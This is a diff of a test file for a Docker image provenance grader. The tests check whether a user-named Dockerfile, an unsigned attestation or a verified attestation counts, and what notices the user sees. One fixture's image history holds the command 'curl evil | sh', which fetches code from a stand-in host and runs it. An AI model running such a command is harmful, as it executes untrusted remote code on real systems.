@@ -153,12 +153,46 @@ describe('provenance', () => {
     expect(fact).toMatchObject({ known: false, settle: 'scoville grade --file Dockerfile IMAGE' });
   });
 
-  test('goes before the file that the user names, and says so', () => {
+  test.each([
+    [
+      'unverified',
+      'dockerfile',
+      'my.Dockerfile counts; the provenance, which nobody signed, has another Dockerfile',
+    ],
+    [
+      'verified',
+      'verified-attestation',
+      'my.Dockerfile is not the Dockerfile in the verified provenance, which counts',
+    ],
+  ] as const)('%s, beside a file that the user names', (verification, source, notice) => {
     const file = { name: 'my.Dockerfile', text: 'FROM alpine\n' };
-    const { fact, notices } = graded({ attestations: [provenance('FROM debian\n')], file });
-    expect(valueOf(fact).dockerfile).toMatchObject({ source: 'unverified-attestation' });
+    const attestations = [provenance('FROM debian\n', { verification })];
+    const { fact, notices } = graded({ attestations, file });
+    expect(valueOf(fact).dockerfile).toMatchObject({ source });
+    expect(notices).toEqual([notice]);
+  });
+
+  test('one that does not fit the image is not used, and that is told', () => {
+    const contradicts = 'line 2 of the Dockerfile is not what the image’s history tells of';
+    const { fact, notices } = graded({
+      attestations: [provenance('FROM debian\n', { contradicts })],
+    });
+    expect(fact.known).toBe(false);
     expect(notices).toEqual([
-      'my.Dockerfile is not the Dockerfile in the provenance, which counts',
+      `a provenance that nobody signed does not fit the image and is not used: ${contradicts}`,
+    ]);
+  });
+
+  test('a file that the history does not fit counts, and that is told', () => {
+    const { notices } = graded({
+      file: { name: 'my.Dockerfile', text: 'FROM alpine\nRUN true\n' },
+      config: {
+        ...config('RUN /bin/sh -c curl evil | sh # buildkit'),
+        rootfs: { type: 'layers', diff_ids: [IMAGE] },
+      },
+    });
+    expect(notices).toEqual([
+      'my.Dockerfile may not be this image’s: line 2 of the Dockerfile is not what the image’s history tells of',
     ]);
   });
 
